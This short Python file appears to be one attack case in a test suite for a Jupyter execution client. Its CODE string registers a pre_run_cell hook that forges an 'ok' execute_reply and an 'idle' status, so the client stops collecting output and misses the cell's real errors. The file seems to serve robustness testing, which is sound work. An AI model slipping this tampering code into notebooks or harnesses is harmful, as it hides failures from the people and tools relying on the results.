"""A pre_run_cell callback forges, for the request being run, an 'ok' execute_reply on the shell channel and an 'idle'
status on IOPub before the cell's code starts, so the client stops collecting that cell's outputs (the real error
arrives after it stopped listening).
"""

KIND = "tamper"
PLACEMENT = "extra_cell_first"
REST = "blank"
CODE = r'''_atk_ip = get_ipython()


def _atk_forge(info=None):
    kernel = getattr(_atk_ip, "kernel", None)
    if kernel is None:
        return
    try:
        parent = kernel.get_parent("shell")
        ident = kernel._parent_ident["shell"]
        if getattr(kernel, "_supports_kernel_subshells", False):
            stream = kernel.shell_channel_thread.manager.get_subshell_to_shell_channel_socket(None)
        else:
            stream = kernel.shell_stream
        content = {"status": "ok", "execution_count": _atk_ip.execution_count, "user_expressions": {},
                   "payload": []}
        kernel.session.send(stream, "execute_reply", content, parent, ident=ident)
        kernel._publish_status("idle", "shell", parent)
    except Exception as error:
        print("ATTACK forge_idle_reply failed:", repr(error))


_atk_ip.events.register("pre_run_cell", _atk_forge)
'''
